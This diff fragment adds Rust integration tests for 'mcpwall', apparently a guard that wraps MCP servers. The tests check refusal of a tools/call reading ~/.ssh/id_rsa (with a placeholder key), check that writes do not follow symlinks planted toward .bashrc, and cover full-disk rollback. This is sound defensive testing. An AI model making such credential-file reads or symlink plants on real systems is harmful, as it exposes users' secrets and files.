+        &["--server-name", "x", "--", "sh", "-c", "cat"],
+    ];
+    for verb in verbs {
+        let sandbox = Sandbox::new();
+        sandbox.write(
+            "project/.mcp.json",
+            "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}\n",
+        );
+        sandbox.write("project/.mcpwall.yml", "version: 1\n");
+        let mut command = sandbox.client_command(verb);
+        command.stdin(Stdio::piped());
+        let mut child = command.spawn().unwrap();
+        {
+            use std::io::Write;
+            let mut stdin = child.stdin.take().unwrap();
+            let _ = writeln!(
+                stdin,
+                "{{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{{\"name\":\"read_file\",\"arguments\":{{\"path\":\"/x\"}}}}}}"
+            );
+        }
+        let out = child.wait_with_output().unwrap();
+        let state = sandbox.home().join(".mcpwall");
+        assert!(
+            state.exists(),
+            "{verb:?} created no state: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        check(&state, &verb.join(" "));
+    }
+}
+
+/// Issue 29 for the trust store: symlinks planted in `~/.mcpwall` at the names its temp
+/// file used to get (`.trusted.json.<pid>.tmp`) are never written through.
+#[cfg(target_os = "linux")]
+#[test]
+fn r29_trust_never_writes_through_a_planted_temp_symlink() {
+    let sandbox = Sandbox::new();
+    sandbox.write("home/.bashrc", "# mine\n");
+    sandbox.write("project/.mcpwall.yml", "version: 1\n");
+    let state = sandbox.home().join(".mcpwall");
+    std::fs::create_dir_all(&state).unwrap();
+    let last: u32 = std::fs::read_to_string("/proc/sys/kernel/ns_last_pid")
+        .ok()
+        .and_then(|s| s.trim().parse().ok())
+        .unwrap_or(1);
+    for pid in last + 1..last + 400 {
+        std::os::unix::fs::symlink(
+            sandbox.home().join(".bashrc"),
+            state.join(format!(".trusted.json.{pid}.tmp")),
+        )
+        .unwrap();
+    }
+    let out = sandbox.run_client(&["trust"]);
+    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(sandbox.read("home/.bashrc"), "# mine\n");
+    let store = sandbox.read("home/.mcpwall/trusted.json");
+    assert!(store.contains("sha256"), "{store}");
+}
+
+/// Issue 27 against an official server: a Claude Code project file with the official
+/// filesystem server (tests/interop/node_modules) behind the original's `npx -y mcpwall`
+/// is migrated; the migrated command serves a file in the project and refuses an SSH key;
+/// unwrap gives the file back byte for byte. Skipped (loudly) without node and the npm
+/// servers, unless MCPWALL_REQUIRE_INTEROP is set.
+#[test]
+fn r27_migrated_official_filesystem_server_runs() {
+    use std::io::{BufRead, Write};
+    let server = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/interop/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js");
+    let node = ["/usr/bin/node", "/usr/local/bin/node"]
+        .into_iter()
+        .find(|p| Path::new(p).exists());
+    let (Some(node), true) = (node, server.exists()) else {
+        assert!(
+            std::env::var_os("MCPWALL_REQUIRE_INTEROP").is_none(),
+            "node or the official filesystem server is missing"
+        );
+        eprintln!("\n!!! SKIPPED: no node or tests/interop/node_modules !!!\n");
+        return;
+    };
+    let sandbox = Sandbox::new();
+    sandbox.write("project/README.md", "hello from the project\n");
+    sandbox.write("home/.ssh/id_rsa", "not a real key\n");
+    let project = sandbox.project().display().to_string();
+    let home = sandbox.home().display().to_string();
+    let text = format!(
+        "{{\n  \"mcpServers\": {{\n    \"filesystem\": {{\n      \"command\": \"npx\",\n      \"args\": [\n        \"-y\", \"mcpwall\", \"--\",\n        \"{node}\", \"{}\", \"{project}\", \"{home}\"\n      ]\n    }}\n  }}\n}}\n",
+        server.display()
+    );
+    sandbox.write("project/.mcp.json", &text);
+    let out = sandbox.run_client(&["wrap", "filesystem"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    let entry: serde_json::Value =
+        serde_json::from_str(&sandbox.read("project/.mcp.json")).unwrap();
+    let entry = &entry["mcpServers"]["filesystem"];
+    assert_eq!(entry["command"], "mcpwall");
+    let args: Vec<&str> = entry["args"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a.as_str().unwrap())
+        .collect();
+    assert_eq!(args[..4], ["--server-name", "filesystem", "--", node]);
+
+    let bin_dir = Path::new(MCPWALL).parent().unwrap();
+    let mut child = Command::new(bin_dir.join("mcpwall"))
+        .args(&args)
+        .current_dir(sandbox.project())
+        .env_clear()
+        .env("HOME", sandbox.home())
+        .env("PATH", format!("{}:/usr/bin:/bin", bin_dir.display()))
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    let (tx, rx) = std::sync::mpsc::channel();
+    let stdout = child.stdout.take().unwrap();
+    std::thread::spawn(move || {
+        for line in std::io::BufReader::new(stdout).lines() {
+            let Ok(line) = line else { break };
+            if tx.send(line).is_err() {
+                break;
+            }
+        }
+    });
+    let ask = |stdin: &mut std::process::ChildStdin,
+               id: u64,
+               method: &str,
+               params: serde_json::Value|
+     -> serde_json::Value {
+        let frame =
+            serde_json::json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params});
+        writeln!(stdin, "{frame}").unwrap();
+        loop {
+            let line = rx
+                .recv_timeout(std::time::Duration::from_secs(60))
+                .unwrap_or_else(|_| panic!("no answer to {method}"));
+            let v: serde_json::Value = serde_json::from_str(&line).unwrap();
+            if v["id"] == id {
+                return v;
+            }
+        }
+    };
+    let init = ask(
+        &mut stdin,
+        1,
+        "initialize",
+        serde_json::json!({"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}),
+    );
+    assert!(init["result"]["serverInfo"].is_object(), "{init}");
+    writeln!(
+        stdin,
+        "{{\"jsonrpc\":\"2.0\",\"method\":\"notifications/initialized\"}}"
+    )
+    .unwrap();
+    let read =
+        |path: String| serde_json::json!({"name": "read_text_file", "arguments": {"path": path}});
+    let ok = ask(
+        &mut stdin,
+        2,
+        "tools/call",
+        read(format!("{project}/README.md")),
+    );
+    assert!(
+        ok["result"].to_string().contains("hello from the project"),
+        "{ok}"
+    );
+    let key = ask(
+        &mut stdin,
+        3,
+        "tools/call",
+        read(format!("{home}/.ssh/id_rsa")),
+    );
+    assert!(
+        key.get("error").is_some() || key["result"]["isError"] == true,
+        "{key}"
+    );
+    assert!(!key.to_string().contains("not a real key"), "{key}");
+    drop(stdin);
+    let _ = child.kill();
+    let _ = child.wait();
+
+    let out = sandbox.run_client(&["unwrap", "filesystem"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    assert_eq!(sandbox.read("project/.mcp.json"), text);
+}
+
+/// Issue 27: an entry an older `mcpwall wrap` wrapped a second time around the original
+/// (`mcpwall --server-name fs -- npx -y mcpwall -- srv`) is reported, and unwrap + wrap
+/// leave only this mcpwall, with the original's options.
+#[test]
+fn r27_an_entry_wrapped_around_the_original_is_reported_and_fixed() {
+    let sandbox = Sandbox::new();
+    let fake = fake_server();
+    sandbox.write(
+        "project/.mcp.json",
+        &format!(
+            "{{\"mcpServers\": {{\"fs\": {{\"command\": \"mcpwall\", \"args\": [\"--server-name\", \"fs\", \"--\", \"npx\", \"-y\", \"mcpwall\", \"--strict\", \"--\", \"{fake}\"]}}}}}}\n"
+        ),
+    );
+    let status = sandbox.stdout(&sandbox.run_client(&["status"]));
+    assert!(status.contains("WRAPPED TWICE"), "{status}");
+    let doctor = sandbox.stdout(&sandbox.run_client(&["doctor"]));
+    assert!(doctor.contains("wrapped twice"), "{doctor}");
+    assert_eq!(code(&sandbox.run_client(&["unwrap", "fs"])), 0);
+    let out = sandbox.run_client(&["wrap", "fs"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    assert_eq!(
+        sandbox.read("project/.mcp.json"),
+        format!(
+            "{{\"mcpServers\": {{\"fs\": {{\"command\": \"mcpwall\", \"args\": [\"--server-name\", \"fs\", \"--strict\", \"--\", \"{fake}\"]}}}}}}\n"
+        )
+    );
+    let status = sandbox.stdout(&sandbox.run_client(&["status"]));
+    assert!(
+        !status.contains("TWICE") && !status.contains("original"),
+        "{status}"
+    );
+}
+
+/// Issue 29 on a real full disk: HOME on a small tmpfs (mounted when the test runs as
+/// root; skipped otherwise), filled so the backup, then the temp file, then the records
+/// file is what no longer fits. Each run exits 1, says the file was not changed (or was
+/// rolled back), and leaves the file, the records and the backups as they were, with no
+/// temp file behind.
+#[cfg(target_os = "linux")]
+#[test]
+fn r29_a_full_disk_changes_nothing() {
+    // SAFETY: geteuid has no preconditions.
+    if unsafe { libc::geteuid() } != 0 {
+        eprintln!("skipped: mounting a small tmpfs needs root");
+        return;
+    }
+    const F: usize = 48 * 1024;
+    for (case, spare) in [
+        ("backup", F / 2),
+        ("temp file", F + F / 2),
+        ("records", 2 * F + 16 * 1024),
+    ] {
+        let sandbox = Sandbox::new();
+        let home = sandbox.home();
+        let mounted = Command::new("mount")
+            .args(["-t", "tmpfs", "-o", "size=512k,mode=0755", "tmpfs"])
+            .arg(home)
+            .status()
+            .is_ok_and(|s| s.success());
+        if !mounted {
+            eprintln!("skipped: cannot mount a tmpfs here");
+            return;
+        }
+        struct Unmount(PathBuf);
+        impl Drop for Unmount {
+            fn drop(&mut self) {
+                let _ = Command::new("umount").arg(&self.0).status();
+            }
+        }
+        let _unmount = Unmount(home.to_path_buf());
+        let rel = "home/.cursor/mcp.json";
+        let text = format!(
+            "{{\"mcpServers\": {{\"x\": {{\"command\": \"srv\", \"env\": {{\"PAD\": \"{}\"}}}}}}}}\n",
+            "p".repeat(F)
+        );
+        sandbox.write(rel, &text);
+        std::fs::create_dir_all(home.join(".mcpwall/backups")).unwrap();
+        let free = || {
+            let path = std::ffi::CString::new(home.as_os_str().as_encoded_bytes()).unwrap();
+            // SAFETY: a valid NUL-terminated path and a zeroed out-parameter.
+            let mut st: libc::statvfs = unsafe { std::mem::zeroed() };
+            assert_eq!(unsafe { libc::statvfs(path.as_ptr(), &mut st) }, 0);
+            st.f_bavail as usize * st.f_frsize as usize
+        };
+        let filler = free().saturating_sub(spare);
+        std::fs::write(home.join("filler"), vec![0u8; filler]).unwrap();
+        let out = sandbox.run_client(&["wrap", "x"]);
+        let stdout = sandbox.stdout(&out);
+        assert_eq!(code(&out), 1, "{case}: {stdout}");
+        assert!(
+            stdout.contains("No space left on device"),
+            "{case}: {stdout}"
+        );
+        assert_eq!(sandbox.read(rel), text, "{case}: {stdout}");
+        if case == "records" {
+            assert!(stdout.contains("rolled back"), "{case}: {stdout}");
+        } else {
+            assert!(stdout.contains("not changed"), "{case}: {stdout}");
+        }
+        let backups = std::fs::read_dir(home.join(".mcpwall/backups"))
+            .unwrap()
+            .count();
+        assert_eq!(
+            backups, 0,
+            "{case}: a backup of a change that did not happen"
+        );
+        let records =
+            std::fs::read_to_string(home.join(".mcpwall/wrapped.json")).unwrap_or_default();
+        assert!(!records.contains("cursor"), "{case}: {records}");
+        for dir in [home.join(".cursor"), home.join(".mcpwall")] {
+            let stray: Vec<_> = std::fs::read_dir(&dir)
+                .unwrap()
+                .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+                .filter(|n| n.contains(".tmp"))
+                .collect();
+            assert!(stray.is_empty(), "{case}: temp files left: {stray:?}");
+        }
+    }
+}
+
+/// Issue 29: a repository's client file that is a symlink to a file outside the project
+/// (here another client's config of the user's) is not written through without --force.
+#[cfg(unix)]
+#[test]
+fn r29_a_project_file_linked_outside_the_project_needs_force() {
+    let sandbox = Sandbox::new();
+    let theirs = "{\"servers\": {\"x\": {\"command\": \"srv\"}}}\n";
+    sandbox.write("home/elsewhere/mcp.json", theirs);
+    std::fs::create_dir_all(sandbox.project().join(".vscode")).unwrap();
+    std::os::unix::fs::symlink(
+        sandbox.home().join("elsewhere/mcp.json"),
+        sandbox.project().join(".vscode/mcp.json"),
+    )
+    .unwrap();
+    let out = sandbox.run_client(&["wrap", "x"]);
+    let stdout = sandbox.stdout(&out);
+    assert_eq!(code(&out), 1, "{stdout}");
+    assert!(stdout.contains("outside the project"), "{stdout}");
+    assert_eq!(sandbox.read("home/elsewhere/mcp.json"), theirs);
+    let out = sandbox.run_client(&["wrap", "x", "--force"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    assert!(
+        sandbox
+            .read("home/elsewhere/mcp.json")
+            .contains("\"--\", \"srv\"")
+    );
+    // A link inside the project is fine.
+    let sandbox = Sandbox::new();
+    sandbox.write("project/shared/mcp.json", theirs);
+    std::fs::create_dir_all(sandbox.project().join(".vscode")).unwrap();
+    std::os::unix::fs::symlink(
+        "../shared/mcp.json",
+        sandbox.project().join(".vscode/mcp.json"),
+    )
+    .unwrap();
+    let out = sandbox.run_client(&["wrap", "x"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
 }
